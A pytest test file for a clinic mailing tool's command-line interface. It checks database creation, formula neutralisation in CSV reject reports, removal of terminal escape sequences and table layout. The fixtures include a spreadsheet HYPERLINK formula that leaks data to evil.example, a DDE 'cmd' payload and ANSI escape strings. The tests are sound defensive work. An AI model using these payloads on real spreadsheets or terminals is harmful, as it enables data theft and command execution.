"""Output and input hygiene of the CLI: only `init` creates a database, the rejects report is
safe to open in a spreadsheet, and nothing printed can drive the terminal."""

from __future__ import annotations

import csv
from pathlib import Path

import pytest

from app.cli.output import clean
from tests.support.cli import CLI, write_csv
from tests.support.console import users_cmd

MONDAY_10_LONDON = "2026-11-23T10:00:00Z"


@pytest.mark.parametrize(
    "args",
    [
        ("stats", "--json"),
        ("tick", "--json"),
        ("subscribers", "export", "ann@example.com"),
        ("outbox", "list"),
        ("health", "status"),
    ],
)
def test_only_init_creates_a_database(bare_cli: CLI, tmp_path: Path, args: tuple[str, ...]) -> None:
    db_file = tmp_path / "clinicmail.db"
    run = bare_cli(*args)
    assert run.code == 1
    assert run.err.strip().count("\n") == 0
    assert str(db_file) in run.err and "clinicmail init" in run.err
    assert not db_file.exists()  # nothing was created on the way
    assert bare_cli("init").code == 0
    assert db_file.exists()
    assert bare_cli(*args).code in (0, 1)  # runs now (export of nobody is a user error)


def test_rejects_report_neutralises_spreadsheet_formulas(cli: CLI, tmp_path: Path) -> None:
    rows = [
        '"=HYPERLINK(""https://evil.example/?leak=""&A1,""click"")",Eve,,,yes,,',
        "@SUM(1+1)*cmd|' /C calc'!A0,Eve,,,yes,,",
        "+1-555-0100,Eve,,,yes,,",
        "-2+3,Eve,,,yes,,",
        "ok@example.com,Ok,,,yes,,",
    ]
    report = tmp_path / "rejects.csv"
    run = cli(
        "subscribers", "import", str(write_csv(tmp_path / "p.csv", rows)), "--report", str(report)
    )
    assert run.code == 0, run.err
    with report.open(encoding="utf-8", newline="") as fh:
        cells = [row for row in csv.reader(fh)][1:]
    assert len(cells) == 4
    for line, email, reason in cells:
        assert email.startswith("'") and email[1] in "=@+-", email
        assert not reason.startswith(("=", "+", "-", "@", "\t", "\r"))
        assert line.isdigit()


def test_terminal_escapes_never_reach_the_terminal(cli: CLI, tmp_path: Path) -> None:
    nasty = "Ann\x1b[2J\x1b]0;owned\x07\x9b31m\u202eevil"
    path = tmp_path / "p.csv"
    # A first name goes into headers, so one with control characters is refused at import
    # (core.headers); the same text still reaches the database through the source column.
    path.write_text(
        "email,first_name,symptoms,timezone,consent,source\n"
        f"eve@example.com,{nasty},lower_back,Europe/London,yes,\n"
        f"ann@example.com,Ann,lower_back,Europe/London,yes,{nasty}\n",
        encoding="utf-8",
    )
    imported = cli("subscribers", "import", str(path), "--json")
    assert imported.code == 0 and imported.json()["rejected"] == 1
    assert cli("tick", "--now", MONDAY_10_LONDON).code == 0
    listed = cli("outbox", "list")
    newest = listed.out.split("\t")[0]
    outputs = [
        listed,
        cli("outbox", "show", newest),
        cli("outbox", "show", newest, "--raw"),
        cli("subscribers", "export", "ann@example.com"),
        cli("campaigns", "preview", "spasm-education", "1", "--first-name", nasty),
        cli("stats"),
    ]
    for run in outputs:
        assert run.code == 0, run.err
        for bad in ("\x1b", "\x07", "\x9b", "\u202e"):
            assert bad not in run.out + run.err
    assert "Ann" in outputs[1].out  # the name itself is still shown, without the escapes
    assert clean(nasty) == "Ann[2J]0;owned31mevil"


def test_outbox_show_prints_only_headers_the_message_has(cli: CLI) -> None:
    from tests.support.app import app_for

    with app_for(cli) as (client, _ctx):
        body = {"email": "new@example.com", "consent": True}
        assert client.post("/api/subscribers", json=body).status_code == 202
    assert cli("tick", "--now", "2026-11-21T10:00:00Z").code == 0
    newest = cli("outbox", "list").out.split("\t")[0]
    shown = cli("outbox", "show", newest)
    assert shown.code == 0
    assert "Subject:" in shown.out
    assert "None" not in shown.out  # a confirmation email has no List-Unsubscribe header


def test_stats_tables_fit_the_terminal(cli: CLI, tmp_path: Path) -> None:
    people = write_csv(tmp_path / "p.csv", ["pat@example.com,Pat,lower_back,Europe/London,yes,,"])
    assert cli("subscribers", "import", str(people)).code == 0
    assert cli("tick", "--now", MONDAY_10_LONDON).code == 0
    for width in (80, 120):
        cli.env("COLUMNS", str(width))
        run = cli("stats")
        assert run.code == 0, run.err
        assert max(len(line) for line in run.out.splitlines()) <= width
        assert "unsubs" in run.out or "uns" in run.out


def test_every_list_command_prints_the_one_table_shape(sqlite_cli: CLI) -> None:
    """`users list`, `apikeys list` and `webhooks list` print the same way (app.cli.output's
    print_table): a header line at the left edge, each value under its header, no trailing
    blanks, the control characters of a stored value gone."""
    cli = sqlite_cli
    cli.env("COLUMNS", None)  # piped, as a script reads it (pytest-xdist's workers set 80)
    assert cli("init").code == 0
    assert users_cmd(cli, "add", "mara@clinic.example", "--role", "marketing").code == 0
    assert cli("apikeys", "create", "booking", "--scope", "stats:read").code == 0
    hook = "https://pms.example/hook\x1b[2J"
    assert cli("webhooks", "add", hook, "--events", "all").code == 0
    listed = {
        ("email", "role"): (cli("users", "list"), "mara@clinic.example", "marketing"),
        ("name", "prefix"): (cli("apikeys", "list"), "booking", "cm_"),
        ("id", "url"): (cli("webhooks", "list"), "whe_", "https://pms.example/hook"),
    }
    for (first, second), (run, value, under_second) in listed.items():
        assert run.code == 0, run.err
        header, row = run.out.splitlines()[:2]
        assert header.startswith(first) and row.startswith(value), run.out
        assert row.index(under_second) == header.index(second), run.out
        assert all(line == line.rstrip() for line in run.out.splitlines()), run.out
        assert "\x1b" not in run.out
